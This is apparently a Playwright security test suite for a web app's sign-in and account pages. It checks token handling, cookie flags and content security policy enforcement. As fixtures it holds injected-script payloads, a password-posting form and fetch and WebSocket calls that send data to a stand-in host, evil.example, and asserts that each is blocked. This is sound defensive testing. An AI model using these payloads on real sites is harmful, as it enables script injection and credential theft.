import type { Browser, BrowserContext, Page } from '@playwright/test';
import { expect, test } from './equipment/browser-test.ts';
import { cookieNamed } from './equipment/cookies.ts';
import { signInByForm } from './equipment/forms.ts';
import { expectPage } from './equipment/heading.ts';
import { listenToTabs, readAnswer, readEverything } from './equipment/read-everything.ts';
import { shortTokens } from './equipment/short-tokens.ts';

test.use({ settings: shortTokens });

const rooms = [
  'account',
  'account/name',
  'account/email',
  'account/password',
  'account/devices',
  'account/activity',
  'contacts',
  'cats',
  'owners',
  '',
];

const tokenLike = /eyJ[\w-]{10,}\.eyJ|"(?:access|refresh)_token"/;

test('no script can read a token, in whatever room the person has been', async ({ page, context, people }) => {
  const person = await people.make();
  await listenToTabs(context);
  const secrets = new Set<string>();
  const keepSecrets = async () => {
    for (const { value } of await context.cookies()) secrets.add(value);
  };
  const heard: string[] = [];
  page.on('console', (message) => heard.push(message.text()));
  const answers: Promise<string>[] = [];
  context.on('response', (response) => {
    if (new URL(response.url()).pathname.includes('/api/')) answers.push(readAnswer(response));
  });

  await page.goto('sign-in');
  await signInByForm(page, person);
  await expectPage(page, 'Profile');
  await keepSecrets();
  const seen = [await readEverything(page)];
  for (const room of rooms) {
    await page.goto(room);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await keepSecrets();
    seen.push(await readEverything(page));
  }
  // The page renews by itself, and tells its tabs.
  await expect.poll(() => cookieNamed(context, 'access_token')).toBeNull();
  await page.getByRole('link', { name: 'Devices' }).first().click();
  await expect(page.getByText('In use now')).toBeVisible();
  await keepSecrets();
  seen.push(await readEverything(page), ...(await Promise.all(answers)), ...heard);

  const all = seen.join('\n');
  expect(all).toContain(person.email);
  expect(secrets.size).toBeGreaterThanOrEqual(4);
  for (const secret of secrets) expect(all.includes(secret), 'a token was within reach of a script').toBe(false);
  expect(all).not.toMatch(tokenLike);
  expect(all).not.toContain(person.password);
  expect(all).not.toMatch(/^a (?:database|cache): /m);
  for (const { httpOnly, sameSite, path } of await context.cookies())
    expect({ httpOnly, sameSite, path }).toEqual({ httpOnly: true, sameSite: 'Lax', path: '/' });
});

test('what the tabs tell each other of a session holds no token of it', async ({ page, context, people }) => {
  const person = await people.make();
  await listenToTabs(context);
  await page.goto('sign-in');
  await signInByForm(page, person);
  await expectPage(page, 'Profile');
  const told = () => page.evaluate(() => (window as unknown as { toldToTabs: { kind: string }[] }).toldToTabs);
  expect(await told()).toEqual([{ kind: 'signed_in', accessToken: null, accessTokenEndsAt: expect.any(Number) }]);
  await page.getByRole('button', { name: 'Sign out', exact: true }).click();
  await expectPage(page, 'Sign in');
  expect((await told()).at(-1)).toEqual({ kind: 'signed_out' });
});

/** A page with somebody else's markup in it; not watched, because its policy is going to be broken. */
async function plantIn(browser: Browser, address: string, markup: string): Promise<BrowserContext> {
  const context = await browser.newContext();
  await context.route('https://evil.example/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.planted = "from elsewhere"' }),
  );
  await context.route(address, async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ response: answer, body: (await answer.text()).replace('</body>', `${markup}</body>`) });
  });
  await context.addInitScript(() => {
    const broken: string[] = [];
    Object.assign(window, { broken });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => broken.push(effectiveDirective));
  });
  return context;
}

test('markup that somebody has planted in the page runs nothing, and leads nowhere', async ({ browser, service }) => {
  const address = `${service.url}/sign-in`;
  const context = await plantIn(
    browser,
    address,
    `<script>window.planted = 'inline'</script>
     <script src="https://evil.example/theft.js"></script>
     <script src="data:text/javascript,window.planted='data'"></script>
     <img src="x" onerror="window.planted = 'handler'">
     <a id="lure" href="javascript:window.planted='link'">Sign in here</a>
     <iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
     <form id="bait" action="https://evil.example/" method="post"><input name="password"></form>
     <base href="https://evil.example/">`,
  );
  const page = await context.newPage();
  await page.goto(address);
  await expectPage(page, 'Sign in');
  await page.locator('#lure').click();
  await page.locator('#bait').evaluate((form: HTMLFormElement) => form.submit());
  const broken = () => page.evaluate(() => (window as unknown as { broken: string[] }).broken);
  await expect
    .poll(async () => new Set(await broken()))
    .toEqual(new Set(['script-src-elem', 'script-src-attr', 'frame-src', 'object-src', 'form-action']));
  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
  expect(page.url()).toBe(address);
  // The base of the page is the first one, which is ours.
  expect(await page.evaluate(() => new URL(document.baseURI).origin)).toBe(service.url);
  await context.close();
});

/** What a script could try that did get in, by its name; each tells what came of it. */
async function tryEverything(): Promise<Record<string, string>> {
  // While the browser is still calling for the test, it lets `eval` pass.
  await new Promise((resolve) => setTimeout(resolve));
  const element = (name: string) => document.body.appendChild(document.createElement(name));
  const tries: Record<string, () => unknown> = {
    markup: () => {
      element('div').innerHTML = '<img src=x onerror="window.planted=1">';
    },
    'markup beside': () => element('div').insertAdjacentHTML('beforeend', '<b>planted</b>'),
    document: () => document.write('<script>window.planted=1</script>'),
    eval: () => (Reflect.get(globalThis, 'eval') as (text: string) => unknown)('window.planted=1'),
    function: () => (Reflect.construct(Function, ['window.planted=1']) as () => unknown)(),
    'script text': () => {
      (element('script') as HTMLScriptElement).text = 'window.planted=1';
    },
    'script elsewhere': () => {
      (element('script') as HTMLScriptElement).src = 'https://evil.example/theft.js';
    },
    worker: () => new Worker('https://evil.example/theft.js'),
    'worker from a blob': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
    'service worker': () => navigator.serviceWorker.register('theme.js'),
    frame: () => {
      (element('iframe') as HTMLIFrameElement).srcdoc = '<script>parent.planted=1</script>';
    },
    'another policy': () =>
      (
        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
      ).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
    'a call home': () => fetch('https://evil.example/', { method: 'POST', mode: 'no-cors', body: 'stolen' }),
    socket: () =>
      new Promise((_, reject) => {
        new WebSocket('wss://evil.example/').onerror = () => reject(new TypeError('no socket'));
      }),
  };
  const attempt = async ([name, work]: [string, () => unknown]): Promise<[string, string]> => {
    try {
      await work();
      return [name, 'went through'];
    } catch (error) {
      return [name, error instanceof Error ? 'refused' : String(error)];
    }
  };
  return Object.fromEntries(await Promise.all(Object.entries(tries).map(attempt)));
}

test('a script that did get in makes no other one, calls nobody, and finds no token', async ({
  browser,
  service,
  people,
}) => {
  const context = await plantIn(browser, 'https://nowhere.example/', '');
  const page = await context.newPage();
  const person = await people.make();
  await people.signIn(page, person);
  await page.goto(`${service.url}/account`);
  await expectPage(page, 'Profile');
  const told = await page.evaluate(tryEverything);
  expect(Object.keys(told)).toHaveLength(14);
  expect([...new Set(Object.values(told))], JSON.stringify(told)).toEqual(['refused']);
  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
  // A worker from the build is what our own code may start.
  await page.evaluate(() =>
    new Worker(document.querySelector<HTMLScriptElement>('script[type=module]')?.src ?? '').terminate(),
  );
  await expectNoTokenAsked(page);
  await context.close();
});

/** Asks in the person's name for everything that once held a token somewhere. */
async function expectNoTokenAsked(page: Page): Promise<void> {
  const answers = await page.evaluate(async () => {
    const ask = async (path: string, method: string, body?: object) => {
      const answer = await fetch(path, {
        method,
        ...(body && { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }),
      });
      return `${path} ${JSON.stringify([...answer.headers])} ${await answer.text()}`;
    };
    return [
      document.cookie,
      await ask('api/account', 'GET'),
      await ask('api/account/sessions', 'GET'),
      await ask('api/auth/refresh', 'POST'),
      // The transport of the session can't be changed under it.
      await ask('api/auth/refresh', 'POST', { transport: 'body' }),
      await ask('api/auth/token', 'POST', { grant_type: 'refresh_token', transport: 'body' }),
    ];
  });
  const secrets = (await page.context().cookies()).map(({ value }) => value);
  expect(secrets).toHaveLength(2);
  for (const answer of answers) {
    for (const secret of secrets) expect(answer).not.toContain(secret);
    expect(answer).not.toMatch(tokenLike);
  }
}
